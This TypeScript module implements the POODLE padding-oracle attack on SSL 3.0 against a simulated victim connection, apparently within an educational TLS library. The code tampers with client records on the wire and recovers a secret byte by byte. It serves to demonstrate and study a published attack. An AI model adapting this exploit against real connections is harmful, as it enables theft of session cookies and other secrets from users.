/**
 * POODLE (Möller, Duong, Kotowicz 2014). SSL 3.0 says how long the padding is but not what its bytes are, and the MAC does not cover it. If a
 * record ends with a whole block of padding, the attacker may replace this block by any other of the record: the server accepts it when its
 * last byte happens to decrypt to 15, once in 256 connections. Then she knows the last byte of the block that she copied.
 */

import { concat, concatAll } from '@cleartext/core';
import { CONTENT_TYPE, encodeRecord } from '../record/record.ts';
import type { Line, OnTheWire } from './line.ts';
import { recordsIn } from './recording.ts';

/** A browser that the attacker's page makes repeat a request, each time on a new connection through her hands. */
export interface PoodleVictim {
  /**
   * Opens a connection, sends the path, the secret behind it and the body behind that, and gives the line. The attacker chooses the lengths of
   * path and body, and what happens on the wire.
   */
  readonly request: (path: Uint8Array, body: Uint8Array, onTheWire: OnTheWire) => Line;
}

/** What the attacker learned, and from how many connections. */
export interface PoodleResult {
  /** As many bytes of the secret as she found before she gave up. */
  readonly secret: Uint8Array;
  readonly questions: number;
}

const BLOCK = 16;

/**
 * The attack on `length` bytes of the secret. `before` and `after` are the numbers of bytes that a request has before the path and between path and
 * secret. Gives up on a byte after `budget` connections.
 */
export function poodle(
  victim: PoodleVictim,
  { before, after, length }: { readonly before: number; readonly after: number; readonly length: number },
  budget = 5000,
): PoodleResult {
  const secret: number[] = [];
  let questions = 0;
  for (let i = 0; i < length; i++) {
    // The path brings byte i of the secret to the end of a block; the body fills the last block, so that the padding gets one of its own.
    const path = new Uint8Array(BLOCK + padTo(BLOCK, before + after + i + 1)).fill(0x41);
    const end = before + path.length + after + i + 1;
    const body = bodyFor(victim, path);
    let byte: number | undefined;
    for (let tries = 0; byte === undefined && tries < budget; tries++) {
      questions++;
      byte = tryOnce(victim, path, body, end);
    }
    if (byte === undefined) break;
    secret.push(byte);
  }
  return { secret: Uint8Array.from(secret), questions };
}

/** One connection: the last block of the last record is replaced by the one that ends at `end`. The byte if the server accepts. */
function tryOnce(victim: PoodleVictim, path: Uint8Array, body: Uint8Array, end: number): number | undefined {
  let blocks: readonly Uint8Array[] = [];
  let chained: Uint8Array = new Uint8Array(0);
  const line = victim.request(path, body, (bytes, from) => {
    const records = recordsIn(bytes);
    const last = records.at(-1);
    if (from !== 'client' || last?.type !== CONTENT_TYPE.application_data) return bytes;
    blocks = cut(last.fragment);
    // The first byte of the data travels alone in the record before (1/n-1), so the blocks of this record begin one byte later.
    chained = records.at(-2)?.fragment.slice(-BLOCK) ?? chained;
    const fragment = concatAll([...blocks.slice(0, -1), blocks[blockOf(end)]]);
    return concat(
      ...records.slice(0, -1).map((record) => record.bytes),
      encodeRecord(last.type, last.version, fragment),
    );
  });
  if (line.states.server.kind !== 'CONNECTED') return undefined;
  const before = blockOf(end) === 0 ? chained : blocks[blockOf(end) - 1];
  return (BLOCK - 1) ^ blocks.at(-2)!.at(-1)! ^ before.at(-1)!;
}

/** The block, counted from the second byte of the data, that ends with byte number `end`. */
function blockOf(end: number): number {
  return (end - 1) / BLOCK - 1;
}

/** The length of the body with which the record grows by a block: the one before it leaves a whole block of padding. */
function bodyFor(victim: PoodleVictim, path: Uint8Array): Uint8Array {
  const sizeWith = (length: number): number => {
    let size = 0;
    victim.request(path, new Uint8Array(length).fill(0x42), (bytes, from) => {
      const last = recordsIn(bytes).at(-1);
      if (from === 'client' && last?.type === CONTENT_TYPE.application_data) size = last.fragment.length;
      return bytes;
    });
    return size;
  };
  const smallest = sizeWith(0);
  for (let length = 1; length <= BLOCK; length++)
    if (sizeWith(length) > smallest) return new Uint8Array(length).fill(0x42);
  return new Uint8Array(0);
}

function cut(bytes: Uint8Array): Uint8Array[] {
  return Array.from({ length: bytes.length / BLOCK }, (_, i) => bytes.slice(BLOCK * i, BLOCK * (i + 1)));
}

/** How many bytes lead from `size` to one more than a multiple of `unit`: the byte that travels alone comes first. */
function padTo(unit: number, size: number): number {
  return (unit + 1 - (size % unit)) % unit;
}
